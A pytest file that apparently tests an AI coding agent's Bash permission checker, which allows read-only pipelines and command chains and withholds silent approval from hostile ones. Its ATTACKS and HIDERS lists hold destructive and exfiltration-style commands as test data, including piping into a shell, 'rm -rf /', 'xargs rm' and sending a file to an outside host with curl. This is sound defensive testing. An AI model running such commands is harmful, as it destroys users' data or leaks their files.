"""Pipelines and `&&`/`||`/`;` chains of read-only or allowed commands (issue 34, item 8).

`git status --short | head -3` with `Bash(git status:*)`, `ls | head -3` and
`cat README.md | wc -l` were asked about in default mode (headless: refused, advising the
rule already given); Claude Code runs all three. A compound line is allowed when every stage
alone would be (read-only, or approved by a rule) and the line hides nothing: a redirection
to a file or a `$(…)` still asks. Attacker pipelines — data piped into a shell or into
`xargs rm` — are never allowed silently.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from queryloop.permissions import (
    PermissionAllow,
    PermissionChecker,
    PermissionContext,
    PermissionMode,
    PermissionRequest,
    RuleSet,
)
from queryloop.testing import MessagesServer, text, tool_use, turn
from queryloop.tools.base import PermissionDecision, ToolContext
from queryloop.tools.builtin import BashTool

sys.path.insert(0, str(Path(__file__).parent.parent / "cli"))
from cli_helpers import project, run_cli

ATTACKS = [
    "cat x | sh",
    "ls | xargs rm",
    "git status | bash",
    "echo rm -rf / | sh",
    "find . | xargs -I{} rm {}",
    "cat README.md | bash -s",
    "git log | sh -c 'cat'",
    "ls && rm -rf x",
    "cat README.md; rm README.md",
    "head -3 README.md || sh x",
    "find . -name '*.py' | xargs sed -i s/a/b/",
    "grep -l x README.md | xargs -0 rm -f",
    "ls | tee out.txt",
    "ls | python3",
    "cat README.md | curl -d @- http://example.com",
]
"""Lines that write, delete or run what they read: none may run without a person."""

GENEROUS = [
    "Bash(git status:*)",
    "Bash(ls:*)",
    "Bash(cat:*)",
    "Bash(find:*)",
    "Bash(head:*)",
    "Bash(grep:*)",
    "Bash(git log:*)",
    "Bash(npm test:*)",
]
"""Allow rules a project plausibly has: none names a shell, `xargs`, `rm` or `tee`."""

READ_ONLY_STAGES = [
    "ls",
    "ls -la",
    "cat README.md",
    "head -3",
    "tail -n 2 README.md",
    "wc -l",
    "grep x README.md",
    "git status --short",
    "git log --oneline",
    "pwd",
]
RULED_STAGES = ["npm test", "make build"]
"""Approved by `RULES` below, not read-only."""
OTHER_STAGES = ["rm x", "sh", "bash", "xargs rm", "tee out.txt", "sort", "python3", "touch y"]
RULES = ["Bash(npm test:*)", "Bash(make build:*)"]
OPERATORS = [" | ", " && ", " || ", " ; "]
HIDERS = [" > out.txt", " >> out.txt", " $(rm x)", " `rm x`", " 2> err.log", " <(rm x)"]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "README.md").write_text("one\ntwo\nthree\n")
    return tmp_path


def checker_for(
    allow: list[str], mode: PermissionMode = PermissionMode.DEFAULT
) -> PermissionChecker:
    rules = RuleSet.from_strings(allow=allow, source="cli")
    return PermissionChecker(PermissionContext(mode=mode, rules=rules))


async def verdict(checker: PermissionChecker, command: str, cwd: Path) -> PermissionDecision:
    return await checker.evaluate(BashTool(), {"command": command}, ToolContext(cwd=cwd))


async def headless(checker: PermissionChecker, command: str, cwd: Path) -> PermissionDecision:
    return await checker.check(BashTool(), {"command": command}, ToolContext(cwd=cwd))


# --- attacks first -----------------------------------------------------------------------


@pytest.mark.parametrize("mode", [PermissionMode.DEFAULT, PermissionMode.ACCEPT_EDITS])
@pytest.mark.parametrize("command", ATTACKS)
async def test_an_attacker_pipeline_is_never_allowed_silently(
    command: str, mode: PermissionMode, folder: Path
) -> None:
    for allow in ([], GENEROUS):
        decision = await verdict(checker_for(allow, mode), command, folder)
        assert decision.behavior != "allow", (command, allow)


# --- the three reproductions, end to end -------------------------------------------------


REPRODUCTIONS = ["git status --short | head -3", "ls | head -3", "cat README.md | wc -l"]


@pytest.mark.slow
def test_read_only_pipelines_run_headless_in_default_mode(tmp_path: Path) -> None:
    """Through `queryloop -p` in default mode with `--allowed-tools 'Bash(git status:*)'`."""
    folder = project(tmp_path)
    subprocess.run(["git", "init", "-q", str(folder)], check=True)
    (folder / "README.md").write_text("one\ntwo\nthree\n")
    (folder / "untracked.txt").write_text("x\n")
    calls = [turn(tool_use("Bash", {"command": c})) for c in REPRODUCTIONS]
    with MessagesServer([*calls, turn(text("done"))]) as server:
        done = run_cli(
            server.base_url,
            tmp_path,
            "-p",
            "look around",
            "--permission-mode",
            "default",
            "--allowed-tools",
            "Bash(git status:*)",
            "--output-format",
            "json",
        )
        bodies = server.requests
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["permission_denials"] == []
    results = [
        block
        for message in bodies[-1]["messages"]
        if message["role"] == "user" and isinstance(message["content"], list)
        for block in message["content"]
        if block.get("type") == "tool_result"
    ]
    assert [r.get("is_error", False) for r in results] == [False, False, False]
    outputs = [json.dumps(r["content"]) for r in results]
    assert "?? README.md" in outputs[0]
    assert "README.md" in outputs[1]
    assert "3" in outputs[2]


# --- the advice --------------------------------------------------------------------------


async def test_the_advice_names_the_rule_per_stage_and_never_one_already_given(
    folder: Path,
) -> None:
    checker = checker_for(["Bash(git status:*)"])
    decision = await headless(checker, "git status --short | sort | uniq -c", folder)
    assert decision.behavior == "deny"
    assert "Bash(sort:*)" in decision.message and "Bash(uniq:*)" in decision.message
    assert "Bash(git status:*)" not in decision.message

    decision = await headless(checker_for([]), "make build && npm test", folder)
    assert "Bash(make build:*)" in decision.message and "Bash(npm test:*)" in decision.message


async def test_a_hidden_redirection_is_advised_as_the_exact_line(folder: Path) -> None:
    checker = checker_for(["Bash(git status:*)"])
    decision = await headless(checker, "git status --short | head -3 > out.txt", folder)
    assert decision.behavior == "deny"
    assert "Bash(git status --short | head -3 > out.txt)" in decision.message
    assert "'Bash(git status:*)'" not in decision.message


# --- properties --------------------------------------------------------------------------

stages = st.sampled_from(READ_ONLY_STAGES + RULED_STAGES + OTHER_STAGES)
lines = st.tuples(
    st.lists(stages, min_size=2, max_size=4), st.lists(st.sampled_from(OPERATORS), min_size=3)
)


def join(parts: list[str], operators: list[str]) -> str:
    out = parts[0]
    for operator, part in zip(operators, parts[1:], strict=False):
        out += operator + part
    return out


def decide(command: str, allow: list[str], cwd: Path) -> str:
    return asyncio.run(verdict(checker_for(allow), command, cwd)).behavior


def property_folder(factory: pytest.TempPathFactory) -> Path:
    folder = factory.getbasetemp() / "compound-hypothesis"
    folder.mkdir(exist_ok=True)
    (folder / "README.md").write_text("one\ntwo\nthree\n")
    return folder


@settings(max_examples=60, deadline=None)
@given(line=lines)
def test_a_compound_line_is_allowed_exactly_when_every_stage_alone_is(
    line: tuple[list[str], list[str]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    parts, operators = line
    folder = property_folder(tmp_path_factory)
    alone = [decide(part, RULES, folder) == "allow" for part in parts]
    whole = decide(join(parts, operators), RULES, folder)
    assert (whole == "allow") == all(alone), (parts, operators)


@settings(max_examples=60, deadline=None)
@given(line=lines, data=st.data())
def test_a_redirection_or_substitution_in_any_stage_makes_it_ask(
    line: tuple[list[str], list[str]], data: st.DataObject, tmp_path_factory: pytest.TempPathFactory
) -> None:
    parts, operators = line
    where = data.draw(st.integers(0, len(parts) - 1))
    parts[where] += data.draw(st.sampled_from(HIDERS))
    folder = property_folder(tmp_path_factory)
    assert decide(join(parts, operators), RULES + GENEROUS, folder) == "ask", (parts, operators)


async def test_always_allow_remembers_the_rule_of_every_stage(folder: Path) -> None:
    asked: list[PermissionRequest] = []

    async def always(request: PermissionRequest) -> PermissionAllow:
        asked.append(request)
        return PermissionAllow(remember=True)

    rules = RuleSet.from_strings(allow=["Bash(git status:*)"], source="cli")
    checker = PermissionChecker(PermissionContext(rules=rules), ask=always)
    command = "git status --short | sort | uniq -c"
    assert (await headless(checker, command, folder)).behavior == "allow"
    assert set(asked[0].suggested_rules) == {"Bash(sort:*)", "Bash(uniq:*)"}
    assert (await verdict(checker, command, folder)).behavior == "allow"
    assert (await verdict(checker, "sort | uniq", folder)).behavior == "allow"
    assert len(asked) == 1
